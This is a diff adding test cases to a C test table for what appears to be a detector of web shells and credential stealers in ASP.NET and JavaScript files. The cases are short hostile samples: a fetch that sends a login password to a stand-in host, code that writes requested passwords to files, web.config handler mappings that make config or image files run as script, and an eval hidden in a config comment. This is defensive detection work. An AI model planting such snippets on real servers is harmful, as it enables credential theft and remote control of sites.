@@ -28,6 +28,8 @@ static struct slice without_tildes(struct arena *arena, const char *text)
 #define VB "<%@ Page Language=\"VB\" %>"
 #define UPLOAD CS "<asp:FileUpload id='f' runat='server' />"
 
+#define CONFIG(inner) "<?xml version='1.0'?><configuration>" inner "</configuration>"
+
 static const struct {
     const char *path, *text, *class;
 } cases[] = {
@@ -96,6 +98,26 @@ static const struct {
       CS "<asp:TextBox id='p' TextMode='Password' runat='server' /><% new "
          "WebClient().UploadString(\"http://a/\", p.Text); %>",
       "stealer" },
+
+    { "login.js", "fetch('https://a.example/?' + f.password.value);", "stealer" },
+    { "a.js", "document.cookie = 'a=' + f.password.value;", "suspect" },
+    { "owa/auth/a.js", "document.cookie = 'a=' + f.password.value;", "stealer" },
+    { "a.js", "fetch('https://a.example/login', { body: f.password.value });", "suspect" },
+    { "a.aspx", CS "<% File.WriteAllText(\"web.config\", Req~uest[\"password\"]); %>",
+      "writer" },
+    { "a.aspx", CS "<% File.AppendAllText(\"a.txt\", Sha256(Req~uest[\"password\"])); %>",
+      "writer" },
+
+    /* --- configurations --- */
+    { "web.config",
+      CONFIG("<handlers><add path='*.config' scriptProcessor='C:\\a\\asp.dll'/></handlers>"),
+      "shell" },
+    { "web.config",
+      CONFIG("<handlers><add path='*.png' scriptProcessor='C:\\a\\asp.dll'/></handlers>"),
+      "suspect" },
+    { "web.config", CONFIG("") "<!-- <% e~val req~uest(\"x\") %> -->", "shell" },
+    { "web.config", CONFIG("<modules><add type='A.B, A'/></modules>"), "none" },
+    { "web.config", CONFIG("<machineKey validationKey='00'/>"), "none" },
 
     /* --- suspects --- */
     { "a.aspx", CS "<% Pro~cess.Start(\"c\" + \"md.exe\"); %>", "suspect" },
